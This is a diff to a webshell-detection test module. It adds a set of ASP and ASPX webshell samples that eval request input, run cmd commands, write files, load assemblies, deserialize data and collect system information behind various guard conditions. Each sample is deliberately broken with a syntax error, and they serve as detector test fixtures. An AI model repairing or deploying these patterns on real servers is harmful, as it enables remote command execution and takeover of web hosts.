@@ -1,7 +1,7 @@
 # ruff: noqa: E501 - the lines of these pages are as long as such pages have them
 """The same forms of ordinary pages in other words, written when the first were understood; 15 of these 25 were named before."""
 
-from tests.detection.webshell.second_samples import Sample, cut
+from tests.detection.webshell.second_samples import cut
 
 HELD = cut(
     r'''
@@ -451,4 +451,88 @@ End Sub
 '''
 )
 """None of these may be told above low."""
-FREE: tuple[Sample, ...] = ()
+FREE = cut(
+    r"""
+==== js-own-key.asp
+<%@ Language="JScript" %><% var 1broken; var t = { a: 1 }; var q = String(Request("q")); if (t["a"]) { eval(q); } %>
+==== js-key-other.asp
+<%@ Language="JScript" %><% var 1broken; var t = { a: 1 }; var q = String(Request("q")), k = String(Request("k")); if (t[k]) { eval(q); } %>
+==== js-key-substr.asp
+<%@ Language="JScript" %><% var 1broken; var t = { a: 1 }; var q = String(Request("q")); if (t[q.charAt(0)]) { eval(q); } %>
+==== js-key-else.asp
+<%@ Language="JScript" %><% var 1broken; var t = { a: 1 }; var q = String(Request("q")); if (t[q]) { Response.Write(1); } else { eval(q); } %>
+==== js-switch-other.asp
+<%@ Language="JScript" %><% var 1broken; var q = String(Request("q")), ok = false; switch (String(Request("k"))) { case "a": ok = true; break; } if (ok) eval(q); %>
+==== js-switch-def.asp
+<%@ Language="JScript" %><% var 1broken; var q = String(Request("q")); switch (q) { case "a": break; default: eval(q); } %>
+==== js-switch-pw.asp
+<%@ Language="JScript" %><% var 1broken; var q = String(Request("q")), r = ""; switch (String(Request("k"))) { case "run": r = new ActiveXObject("WScript.Shell").Exec("cmd /c " + q).StdOut.ReadAll(); break; case "ev": r = eval(q); break; default: r = "no"; } Response.Write(r); %>
+==== js-switch-in-fn.asp
+<%@ Language="JScript" %><% var 1broken; function go(a, q) { switch (a) { case "x": return eval(q); case "y": return new ActiveXObject("WScript.Shell").Run(q); } } go(String(Request("a")), String(Request("q"))); %>
+==== js-switch-fall-fn.asp
+<%@ Language="JScript" %><% var 1broken; function t(k) { switch (k) { case "1": return "eval"; default: return ""; } } var q = String(Request("q")); if (t(String(Request("k"))) == "eval") eval(q); %>
+==== vb-row-eq-then-other.asp
+<% Dim 1broken : Set rs = CreateObject("ADODB.Connection").Execute("SELECT pw FROM u") : If rs("pw") = Request("pw") Then CreateObject("WScript.Shell").Run "cmd /c " & Request("c"), 0
+%>
+==== vb-row-not.asp
+<% Dim 1broken : c = Request("c") : Set rs = cn.Execute("SELECT x FROM u") : If rs("x") <> c Then Execute c
+%>
+==== vb-row-left.asp
+<% Dim 1broken : c = Request("c") : Set rs = cn.Execute("SELECT x FROM u") : If Left(c, 3) = rs("x") Then Execute c
+%>
+==== vb-regexp-exec.asp
+<% Dim 1broken : c = Request("c") : Set re = New RegExp : re.Pattern = "x(.*)" : Set m = re.Execute(c) : If m(0) = c Then Execute c
+%>
+==== vb-own-execute.asp
+<% Dim 1broken : c = Request("c") : Set o = New Z : If o.Execute(1)(0) = c Then ExecuteGlobal c
+Class Z : Public Function Execute(x) : Execute = Array(Request("c")) : End Function : End Class %>
+==== sign-then-decode.asp
+<% Dim 1broken : x = Request("x") : Set r = New RegExp : r.Pattern = "^[0-9a-f]+$" : If r.Test(x) Then
+for i = 1 to len(x) step 2 : s = s & chr("&h" & mid(x, i, 2)) : next : CreateObject("WScript.Shell").Run "cmd /c tool " & s
+End If %>
+==== decode-long-way.asp
+<% Dim 1broken : a = Request("x") : b = Trim(a) : c = b & "" : d = Trim(c) : e = LCase(d) : f = e : g = f : h = g : j = h : k = j : l = k : m = l : n = m : o = n : If Right(o, 4) <> ".txt" Then Response.End
+p = StrReverse(Dec(o)) : q = p : CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("/d/" & q)).Write Request("t")
+Function Dec(s) : For i = 1 To Len(s) : Dec = Dec & Chr(Asc(Mid(s, i, 1)) Xor 3) : Next : End Function %>
+==== two-calls-save.asp
+<% Dim 1broken : f = Request("f") : If LCase(Right(f, 4)) = ".txt" Then Save f
+Save Request("g")
+Sub Save(n) : CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("/d/") & "\" & n).Write Request("t") : End Sub %>
+==== two-calls-save-rev.asp
+<% Dim 1broken
+Sub Save(n) : CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("/d/") & "\" & n).Write Request("t") : End Sub
+Save Request("g") : f = Request("f") : If LCase(Right(f, 4)) = ".txt" Then Save f
+%>
+==== getfilename-file-mgr.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { string d = Request["d"], f = Path.GetFileName(Request["f"]); var p = Path.Combine(d, f); if (Request["a"] == "1") File.Delete(p); if (Request["a"] == "2") Response.Write(File.ReadAllText(p)); if (Request["a"] == "3") File.WriteAllText(p, Request["t"]); foreach (var x in Directory.GetFiles(d)) Response.Write(x); }</script>
+==== getfilename-exec.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { System.Diagnostics.Process.Start("cmd.exe", "/c " + Path.GetFileName(Request["c"])); }</script>
+==== compare-any.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var c = Request["c"]; if (string.Compare(c, Request["d"]) == 0) System.Diagnostics.Process.Start("cmd.exe", "/c " + c); }</script>
+==== compare-const-other.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var c = Request["c"]; if (string.Compare("x", Request["d"]) == 0) System.Diagnostics.Process.Start("cmd.exe", "/c " + c); }</script>
+==== compare-more.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var c = Request["c"]; if (string.Compare(c, "x") > 0) System.Diagnostics.Process.Start("cmd.exe", "/c " + c); }</script>
+==== compare-ne.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var c = Request["c"]; if (string.Compare(c, "x") != 0) System.Diagnostics.Process.Start("cmd.exe", "/c " + c); }</script>
+==== equals-ordinal.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var c = Request["c"]; if (!c.Equals("x", StringComparison.Ordinal)) System.Diagnostics.Process.Start("cmd.exe", "/c " + c); }</script>
+==== indexof-0.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var c = Request["c"]; if (c.IndexOf("x") != 0) return; System.Diagnostics.Process.Start("cmd.exe", "/c " + c.Substring(1)); }</script>
+==== unprotect-eval.aspx
+<%@ Page Language="JScript" %><% var 1broken; eval(System.Text.Encoding.UTF8.GetString(System.Web.Security.MachineKey.Decode(Request["k"], 0))); %>
+==== ticket-exec.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var t = FormsAuthentication.Decrypt(Request.Cookies["a"].Value); System.Diagnostics.Process.Start("cmd.exe", "/c " + t.UserData); }</script>
+==== hmac-exec.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; static byte[] K = Convert.FromBase64String(ConfigurationManager.AppSettings["k"]); void Page_Load(object s, EventArgs e) { var d = Convert.FromBase64String(Request["d"]); using (var h = new HMACSHA256(K)) if (!h.ComputeHash(d).SequenceEqual(Convert.FromBase64String(Request["m"]))) return; System.Reflection.Assembly.Load(d).CreateInstance("X"); }</script>
+==== seal-merge.aspx
+<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { string v = Request["v"]; byte[] b = Convert.FromBase64String(v); if (Request["m"] == "1") b = MachineKey.Decode(v, MachineKeyProtection.All); new BinaryFormatter().Deserialize(new MemoryStream(b)); }</script>
+==== info-run.asp
+<% Dim 1broken : Set sh = CreateObject("WScript.Shell") : For Each d In CreateObject("Scripting.FileSystemObject").Drives : Response.Write d.Path : Next : For Each e In sh.Environment("SYSTEM") : Response.Write e : Next : Response.Write sh.RegRead("HKLM\X") : Response.Write sh.Exec("cmd /c whoami").StdOut.ReadAll & sh.Exec("cmd /c ipconfig /all").StdOut.ReadAll %>
+==== info-regread-req.asp
+<% Dim 1broken : Set sh = CreateObject("WScript.Shell") : For Each d In CreateObject("Scripting.FileSystemObject").Drives : Response.Write d.Path : Next : For Each e In sh.Environment("SYSTEM") : Response.Write e : Next : Response.Write sh.RegRead(Request("k")) : For Each s In GetObject("winmgmts:").ExecQuery("select * from Win32_Service") : Response.Write s.Name : Next %>
+==== info-query-req.asp
+<% Dim 1broken : Set sh = CreateObject("WScript.Shell") : For Each d In CreateObject("Scripting.FileSystemObject").Drives : Response.Write d.Path : Next : For Each e In sh.Environment("SYSTEM") : Response.Write e : Next : Response.Write sh.RegRead("HKLM\x") : For Each s In GetObject("winmgmts:").ExecQuery(Request("q")) : Response.Write s.Name : Next : For Each s In GetObject("winmgmts:").ExecQuery("select * from Win32_Service") : Response.Write s.Name : Next %>
+"""
+)
+"""In these a check, a row, a seal or a switch says nothing of what acts; none can run."""
